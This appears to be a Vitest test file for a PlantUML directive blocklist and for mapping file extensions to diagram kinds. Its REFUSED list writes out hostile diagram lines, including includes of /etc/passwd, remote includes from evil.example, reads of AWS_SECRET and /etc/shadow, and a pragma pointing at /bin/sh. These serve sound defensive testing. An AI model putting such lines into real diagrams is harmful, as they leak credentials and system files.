import { describe, expect, it } from 'vitest'

import { describeBlocked, findBlockedDirectives } from '../../src/core/diagrams/blocklist.js'
import { diagramKind } from '../../src/core/diagrams/kinds.js'

const REFUSED = [
  '!include /etc/passwd',
  '  !include_many ../secrets.iuml',
  '!includeurl https://evil.example/x.puml',
  '!includesub lib.puml!PART',
  '!INCLUDE <C4/C4_Container>',
  '!import foo.zip',
  '!theme spacelab from https://evil.example',
  '!pragma graphviz_dot /bin/sh',
  'skinparam dotExecutable /tmp/x',
  'Alice -> Bob: %getenv("HOME")',
  '!$h = %get_env("AWS_SECRET")',
  '!$j = %load_json("/etc/config.json")',
  'note: %file_exists("/etc/shadow")',
  'title %dirpath()',
  'Alice : <img:/etc/passwd>',
  'Alice : <img src="https://evil.example/p.png">',
  'sprite $x <img:file.png>',
]

const ALLOWED = [
  '@startuml',
  'Alice -> Bob: include the file later',
  'skinparam backgroundColor #FFF',
  '!pragma teoz true',
  '!define SHOW true',
  'note right: the image is an image',
  'class Importer',
  '@enduml',
]

describe('the PlantUML directive blocklist', () => {
  it.each(REFUSED)('refuses %s', (line) => {
    const source = `@startuml\n${line}\n@enduml\n`
    const found = findBlockedDirectives(source)
    expect(found).toHaveLength(1)
    expect(found[0]?.line).toBe(2)
  })

  it('allows ordinary diagrams, words that only look like directives included', () => {
    expect(findBlockedDirectives(ALLOWED.join('\n'))).toEqual([])
  })

  it('describes the first refused line and how many more there are', () => {
    const found = findBlockedDirectives('@startuml\n!include a\n!include b\n@enduml')
    expect(describeBlocked(found)).toMatch(
      /^Refused to render: line 2 "!include a" .* \(and 1 more\)/,
    )
  })
})

describe('diagram kinds', () => {
  it.each([
    ['diagrams/a.puml', 'plantuml'],
    ['A.PUML', 'plantuml'],
    ['flow.mmd', 'mermaid'],
    ['x/y.svg', 'svg'],
    ['notes.md', null],
    ['dir.puml/file', null],
  ])('%s is %s', (path, kind) => expect(diagramKind(path)).toBe(kind))
})
